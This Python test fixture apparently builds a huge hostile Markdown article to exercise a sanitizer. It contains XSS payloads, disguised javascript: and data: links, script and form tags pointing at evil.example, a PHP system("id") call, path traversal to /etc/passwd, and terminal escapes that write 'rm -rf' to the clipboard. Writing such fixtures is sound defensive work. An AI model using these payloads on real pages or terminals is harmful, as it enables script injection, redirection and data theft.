"""The text of an article that tries everything: scripts, links in disguise, size, controls."""
# ruff: noqa: RUF001 - letters that look like others are what it is about

from __future__ import annotations

SCRIPT_LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#x3a;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#0;script:alert(1)",
    "\x01javascript:alert(1)",
    "java\u200bscript:alert(1)",
    "\u202ejavascript:alert(1)",
    "java\\script:alert(1)",
    "javascript%3Aalert(1)",
    "javascript：alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "//evil.example/x",
    "/\\evil.example",
    "https:\\\\evil.example",
    "https://good.example@evil.example/",
    "https://ｅvil.example",
    "mailto:a@b.example?attach=/etc/passwd",
    "mailto:a@b.example?subject=x%0d%0aBcc:c@d.example",
    "tel:*%2306%23",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "article:../../secret",
)
"""Each would do harm on some page or in some program, if it became a link."""
_MARK_UP = """
<script>alert(1)</script><ScRiPt src=//evil.example/x.js></script>
<img src=x onerror=alert(1)><svg onload=alert(1)><iframe src="javascript:alert(1)"></iframe>
<style>*{display:none}</style><meta http-equiv="refresh" content="0;url=//evil.example">
<!--[if IE]><script>alert(1)</script><![endif]--><?php system("id") ?><![CDATA[<script>]]>
</p></div></main></body></html><base href="//evil.example/"><form action=//evil.example>

# "><script>alert(1)</script> {#x onclick=alert(1)}
[a](https://e.example/"onmouseover="alert(1) "t\\" onclick=\\"alert(1)")
![" onerror="alert(1)](x.png "\\" onload=\\"alert(1)") ![x](https://evil.example/pixel.gif)
```"><script>alert(1)</script>
</code></pre><script>alert(1)</script>
```
| <script> | [x](javascript:alert(1)) |
|-|:-:|
| </td></table><script>alert(1)</script> | `</code><script>` |
"""
_CONTROLS = (
    "\x1b[2J\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\x9b2J\x90q\x9c \x08\x08\x08\r\x0b\x0c\x00 "
    "&#27;[31m &#x9b;2J &#x1b;]8;;http://evil.example\x07 \ue000 \ufdd0 \ud800 "
    "invoice\u202efdp.exe \u2066hidden\u2069 \U000e0041\U000e0042 a" + "\u0301" * 500
)


def hostile_article() -> str:
    """Give its text, of half a megabyte."""
    links = "\n".join(
        f"[link]({link}) [angle](<{link}>) ![picture]({link}) <{link}> [reference][{number}]\n"
        f"\n[{number}]: {link}\n"
        for number, link in enumerate(SCRIPT_LINKS)
    )
    columns = 10_000
    wide = f"|{'a|' * columns}\n|{'-|' * columns}\n" + "|\n" * 100
    long = "|a|b|\n|-|-|\n" + "|c|d|\n" * 5_000
    nested = ">" * 10_000 + " deep\n\n" + "- " * 10_000 + "deep\n"
    signs = "\n\n".join(
        sign * (10_000 // len(sign)) for sign in ("[", "![", "*_", "[](", "<!--", "`" * 3 + " ")
    )
    return "\n\n".join((_MARK_UP, links, _CONTROLS, wide, long, nested, signs, "the last words\n"))
